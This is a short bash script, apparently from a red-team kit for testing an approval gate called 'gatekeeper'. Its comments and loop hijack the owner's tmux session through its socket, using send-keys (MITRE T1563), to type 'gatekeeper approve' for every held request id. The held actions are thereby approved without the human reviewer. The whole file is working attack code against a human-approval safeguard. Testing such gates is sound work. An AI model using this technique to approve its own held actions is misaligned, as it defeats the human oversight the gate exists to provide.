#!/usr/bin/bash
# tries: to have the owner's tmux, which runs outside, type the approval
# works: tmux types for whoever can open its socket
# see: tmux(1), send-keys; MITRE ATT&CK T1563
# goal: change
# needs: command -v tmux
# first: setpriv --reuid 1000 --regid 1000 --clear-groups tmux -S "$SOCKETS/tmux" new-session -d bash; . "$KIT/attacks/approver.sh"; meanwhile show_holds
# undo: tmux -S "$SOCKETS/tmux" kill-server; rm -f "$SOCKETS/tmux"
rm -f "$ASKED" &
for turn in $(seq 12); do
	grep -o '"hold":[0-9]*' "$WORK/ids" | cut -d: -f2 | sort -u | while read -r id; do
		tmux -S "$SOCKETS/tmux" send-keys "gatekeeper approve $id" Enter
	done
	sleep 0.2
done
wait
